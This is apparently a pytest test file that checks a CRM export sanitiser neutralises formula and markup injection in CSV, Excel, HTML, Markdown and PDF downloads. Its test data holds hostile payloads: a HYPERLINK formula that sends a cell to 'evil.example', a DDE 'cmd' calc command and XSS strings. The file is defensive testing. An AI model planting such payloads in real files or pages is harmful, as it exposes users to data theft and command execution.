"""The one sanitiser: CRM text is exported as text, never as a formula or markup."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from reltruth.export import html_text, safe_cell, sanitise, to_csv_bytes, to_excel_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_prefixes_are_neutralised(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Northwind", "", " =1", "a=b", "1-2", 12, -5.5, None])
def test_ordinary_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "rep_name": ["=1+1", "Lena Vogt", "@evil"],
            "=header": ["+x", "y", "-z"],
            "revenue": [-100.0, 20.5, 0.0],
            "segment": pd.Series(["=cat", "B", "=cat"], dtype="category"),
            "flags": [["=bad", "ok"], [], ["claim_gap"]],
        }
    )


def test_sanitise_covers_cells_headers_categories_and_lists() -> None:
    out = sanitise(_frame())
    assert list(out.columns) == ["rep_name", "'=header", "revenue", "segment", "flags"]
    assert out["rep_name"].tolist() == ["'=1+1", "Lena Vogt", "'@evil"]
    assert out["'=header"].tolist() == ["'+x", "y", "'-z"]
    assert out["revenue"].tolist() == [-100.0, 20.5, 0.0]  # numbers stay numbers
    assert out["segment"].tolist() == ["'=cat", "B", "'=cat"]
    assert out["flags"].tolist() == ["'=bad; ok", "", "claim_gap"]


def test_sanitise_leaves_the_input_untouched() -> None:
    frame = _frame()
    sanitise(frame)
    assert frame["rep_name"].iloc[0] == "=1+1"


def test_csv_download_has_no_cell_a_spreadsheet_would_run() -> None:
    data = to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'=header" in rows[0]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert [c for c in cells if c.startswith("-")] == ["-100.0"]  # the number only


def test_excel_download_holds_text_not_formulas() -> None:
    frame = _frame()
    frame["note"] = ["bell\x07 char", "nul\x00", "ok"]
    frame["when"] = pd.to_datetime(["2026-01-01", "2026-02-01", "2026-03-01"]).tz_localize("UTC")
    book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(frame, sheet_name="Team: North/[A]")))
    sheet = book.active
    assert sheet.title == "Team  North  A"
    values = [c.value for row in sheet.iter_rows() for c in row]
    kinds = {c.data_type for row in sheet.iter_rows() for c in row}
    assert "f" not in kinds  # no formula cell at all
    assert "'=1+1" in values and "'=header" in values and "'=bad; ok" in values
    assert "bell char" in values and "nul" in values
    assert -100 in values


def test_html_text_escapes_markup() -> None:
    assert html_text("<script>alert(\"x\")</script> & 'y'") == (
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;y&#x27;"
    )
    assert html_text(None) == ""


ROOT = Path(__file__).resolve().parents[2]
# Writers of spreadsheet files: only reltruth/export.py may call them. sample/exports.py writes
# the built-in *input* exports (as a CRM would), never a download of user data.
SPREADSHEET_WRITERS = ("to_csv", "to_excel", "ExcelWriter", "csv.writer", "DictWriter")
NOT_DOWNLOADS = {"reltruth/export.py", "reltruth/sample/exports.py"}


def test_every_spreadsheet_is_written_by_the_one_sanitiser() -> None:
    offenders = []
    sources = [ROOT / "app.py", *ROOT.glob("pages/*.py"), *ROOT.glob("reltruth/**/*.py")]
    for path in sources:
        if str(path.relative_to(ROOT)) in NOT_DOWNLOADS or not path.exists():
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            name = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if name.endswith(SPREADSHEET_WRITERS):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: {name}")
    assert offenders == []


def test_every_table_download_goes_through_the_sanitiser() -> None:
    # A download button's data is either a sanitised spreadsheet, a rendered sheet, or a
    # chart drawn as an image for slides (PNG / SVG: no cell a spreadsheet could evaluate).
    allowed = (
        "to_csv_bytes",
        "to_excel_bytes",
        "render",
        "zip_sheets",
        "sheets_zip",
        "slides.png",
        "slides.svg",
    )
    offenders = []
    for path in [ROOT / "app.py", *ROOT.glob("pages/*.py"), *ROOT.glob("reltruth/ui/*.py")]:
        if not path.exists():
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and ast.unparse(node.func).endswith("download_button"):
                data = next((kw.value for kw in node.keywords if kw.arg == "data"), None)
                if data is None and len(node.args) > 1:
                    data = node.args[1]
                text = ast.unparse(data) if data is not None else ""
                if not any(a in text for a in allowed):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: data={text}")
    assert offenders == [], offenders


REP_PAYLOAD = "=1+2 <b>Frank</b> @SUM(A1)"
ACCOUNT_PAYLOAD = "<img src=x onerror=alert(1)> [x](javascript:alert(1)) -5+5"


def _payload_exports(folder: Path) -> list[Path]:
    """The sample exports with Frank Berger and his first account renamed to payloads."""
    sample = ROOT / "sample_data"
    account = next(
        row["Account Name"]
        for row in csv.DictReader(io.StringIO((sample / "accounts.csv").read_text("utf-8")))
        if row["Account Owner"] == "Frank Berger"
    )
    paths = []
    for name in ("users.csv", "accounts.csv", "activities.csv", "invoice_lines.csv"):
        text = (sample / name).read_text("utf-8")
        text = text.replace("Frank Berger", REP_PAYLOAD).replace(account, ACCOUNT_PAYLOAD)
        (folder / name).write_text(text, encoding="utf-8")
        paths.append(folder / name)
    return paths


@pytest.mark.slow
def test_payload_names_stay_text_in_every_output(tmp_path: Path) -> None:
    from reltruth import coaching, metrics
    from reltruth.ingest import ingest_files
    from reltruth.workspace import Workspace

    with Workspace.open(memory=True) as ws:
        ingest_files(ws, _payload_exports(tmp_path))
        m = metrics.compute(ws)
        assert REP_PAYLOAD in set(m.reps["rep_name"])
        assert ACCOUNT_PAYLOAD in set(m.accounts["account_name"])
        rep_id = m.reps.loc[m.reps["rep_name"] == REP_PAYLOAD, "rep_id"].iloc[0]

        # Every table download: CSV and Excel of the frames the pages show.
        for frame in (m.reps, m.accounts, m.trades):
            rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"))))
            cells = [c for row in rows for c in row]
            assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
            assert not [c for c in cells if c.startswith("-") and not _is_number(c)]
            book = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(frame)))
            assert "f" not in {c.data_type for row in book.active.iter_rows() for c in row}
        accounts_csv = to_csv_bytes(m.accounts).decode("utf-8-sig")
        assert "'" + ACCOUNT_PAYLOAD in accounts_csv or ACCOUNT_PAYLOAD in accounts_csv

        # The coaching sheet, in each format, for the rep whose name is a payload.
        for self_audit in (False, True):
            sheet = coaching.build_sheet(ws, m, rep_id, self_audit=self_audit)
            html = coaching.render_html(sheet)
            assert "<b>Frank</b>" not in html and "&lt;b&gt;Frank&lt;/b&gt;" in html
            assert "<img src=x" not in html
            md = coaching.render_markdown(sheet)
            # Markdown shows text after a backslash literally; only unescaped syntax is live.
            assert not re.search(r"(?<!\\)<[a-z/]", md), "raw HTML in the Markdown sheet"
            assert not re.search(r"(?<!\\)\]\(javascript", md), "a live link in the Markdown"
            assert "\\<img src=x" in md or self_audit
            pdf = coaching.render_pdf(sheet)
            assert pdf.startswith(b"%PDF")
        # The PDF draws CRM text as plain text: no HTML or Markdown interpretation in fpdf2.
        pdf_source = (ROOT / "reltruth" / "coaching" / "pdf_drawing.py").read_text("utf-8")
        assert "write_html" not in pdf_source and "markdown=True" not in pdf_source
        zipped = coaching.sheets_zip(ws, m, [rep_id], "html")
        assert zipped.startswith(b"PK")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_sanitise_column_wise_gives_what_each_cell_alone_would() -> None:
    """Issue 19: the column-wise sanitiser equals ``safe_cell`` applied cell by cell
    (lists joined first) on every kind of column a page downloads."""
    cells: list[object] = [*PAYLOADS, "Northwind", None, 3, -2.5, ["=a", "b"], ("x",), ""]
    frame = pd.DataFrame(
        {
            "mixed": cells,
            "text": pd.Series([str(c) for c in cells], dtype="str"),
            "missing_text": pd.Series(["=1", None] * (len(cells) // 2) + ["ok"], dtype="str"),
            "numbers": range(len(cells)),
            "nothing": [None] * len(cells),
            "category": pd.Categorical(["-x", "y"] * (len(cells) // 2) + ["@z"]),
        }
    )

    def by_cell(value: object) -> object:
        if isinstance(value, list | tuple | set | frozenset):
            value = "; ".join(str(v) for v in value)
        return safe_cell(value)

    got = sanitise(frame)
    for col in frame.columns:
        expected = [by_cell(v) for v in frame[col].astype(object)]
        shown = got[col].astype(object).tolist()
        assert [None if pd.isna(v) else v for v in shown] == [  # type: ignore[arg-type]
            None if not isinstance(v, str) and pd.isna(v) else v for v in expected
        ], col
